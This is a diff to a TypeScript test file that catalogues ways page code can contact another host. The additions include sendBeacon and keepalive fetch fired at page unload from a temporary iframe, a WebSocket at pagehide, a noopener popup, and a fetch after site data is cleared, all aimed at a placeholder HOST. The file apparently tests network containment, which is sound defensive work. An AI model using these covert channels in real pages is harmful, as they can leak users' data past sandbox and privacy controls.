@@ -87,6 +87,13 @@ const candidate = (protocol: 'udp' | 'tcp') =>
     await one.addIceCandidate({ sdpMid: '0', candidate: 'candidate:1 1 ${protocol} 2122252543 ' + host + ' ' + port +
       ' typ host${protocol === 'tcp' ? ' tcptype passive' : ''}' }); })().catch(() => 0)`;
 
+/** Code that runs in a frame at an event of its end: `window.x` in the code is that of the frame. */
+const atEnd = (event: string, code: string) =>
+  `(() => { const frame = document.createElement('iframe'); document.body.append(frame);
+    const window = frame.contentWindow; const to = '${event}' === 'visibilitychange' ? window.document : window;
+    to.addEventListener('${event}', () => { ${code} }); setTimeout(() => frame.remove(), 100); })()`;
+const beacon = "window.navigator.sendBeacon('http://HOST/', 'x')";
+
 /** Every way in which the code of a page can reach another host. To test another way, add an entry. */
 export const pageWays: readonly PageWay[] = [
   { name: 'fetch', code: "fetch('http://HOST/', { mode: 'no-cors' }).catch(() => 0)" },
@@ -125,6 +132,20 @@ export const pageWays: readonly PageWay[] = [
     code: "(() => { const f = document.createElement('form'); f.action = 'http://HOST/'; f.target = 'out'; document.body.append(f); f.submit(); })()",
   },
   { name: 'a popup', code: "open('http://HOST/')", isSilent: true },
+  { name: 'a popup without an opener', code: "open('http://HOST/', '_blank', 'noopener')", isSilent: true },
+  ...['pagehide', 'unload', 'visibilitychange'].map((event) => ({
+    name: `sendBeacon at ${event}`,
+    code: atEnd(event, beacon),
+  })),
+  {
+    name: 'fetch with keepalive at pagehide',
+    code: atEnd('pagehide', "window.fetch('http://HOST/', { mode: 'no-cors', keepalive: true }).catch(() => 0)"),
+  },
+  { name: 'WebSocket at pagehide', code: atEnd('pagehide', "new window.WebSocket('ws://HOST/')"), isSilent: true },
+  {
+    name: 'fetch after the site data is cleared',
+    code: "fetch('/clear').then(() => fetch('http://HOST/', { mode: 'no-cors' })).catch(() => 0)",
+  },
   {
     name: 'a worker',
     code: `new Worker(${blob("fetch('http://HOST/', { mode: 'no-cors' }).catch(() => 0)")})`,
